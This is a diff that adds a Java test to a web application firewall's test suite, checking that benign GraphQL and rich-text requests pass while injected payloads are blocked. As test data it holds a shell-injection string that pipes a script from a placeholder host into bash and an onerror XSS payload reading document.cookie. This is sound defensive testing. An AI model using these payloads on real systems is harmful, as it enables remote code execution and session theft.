@@ -150,6 +150,28 @@ class WafProfileTest {
         return post(waf, uri, type, bytes(body), null);
     }
 
+    @Test
+    void graphQlDocumentsAndRichTextAreConfirmedByTheirParsersBeforeTheyCount() {
+        String query = "{\"query\":\"query Product($id: ID!) { product(id: $id) { id name price { amount currency } images(first: 4) { url alt } "
+                + "reviews(first: 10, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { rating title } } } } }\",\"variables\":{\"id\":\"42\"}}";
+        String richText = "{\"body\":\"<p>Looks great</p><p><img src=\\\"https://cdn.shop.test/u/1/photo.jpg\\\" alt=\\\"photo\\\" width=\\\"300\\\"></p>\"}";
+        assertThat(post(standard, "/graphql", "application/json", bytes(query), null).interruption()).as("standard, GraphQL").isEmpty();
+        assertThat(post(crs, "/graphql", "application/json", bytes(query), null).matchedRules()).extracting(MatchedRule::id).contains(932235L);
+        assertThat(post(standard, "/reviews", "application/json", bytes(richText), null).interruption()).as("standard, rich text").isEmpty();
+        assertThat(post(crs, "/reviews", "application/json", bytes(richText), null).matchedRules()).extracting(MatchedRule::id).contains(941160L);
+        // What the parsers find is still refused: a command in a GraphQL string value, script in markup.
+        String command = "{\"query\":\"{ search(q: \\\"x; curl http://evil.test/x.sh | bash\\\") { id } }\"}";
+        Transaction cmd = post(standard, "/graphql", "application/json", bytes(command), null);
+        assertThat(cmd.interruption()).as("standard, command in a GraphQL string").isPresent();
+        assertThat(cmd.matchedRules()).extracting(MatchedRule::id).contains(932235L);
+        String script = "{\"body\":\"<p><img src=x onerror=alert(document.cookie)></p>\"}";
+        Transaction xss = post(standard, "/reviews", "application/json", bytes(script), null);
+        assertThat(xss.interruption()).as("standard, event handler in markup").isPresent();
+        assertThat(xss.matchedRules()).extracting(MatchedRule::id).contains(941160L);
+        String shell = "{\"name\":\"x; curl http://evil.test/x.sh | bash\"}";
+        assertThat(post(standard, "/profile", "application/json", bytes(shell), null).matchedRules()).extracting(MatchedRule::id).contains(932235L);
+    }
+
     private static Transaction upload(TiyiWaf waf, String filename, String content) {
         String boundary = "----tiyiupload";
         String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nMy file\r\n--" + boundary
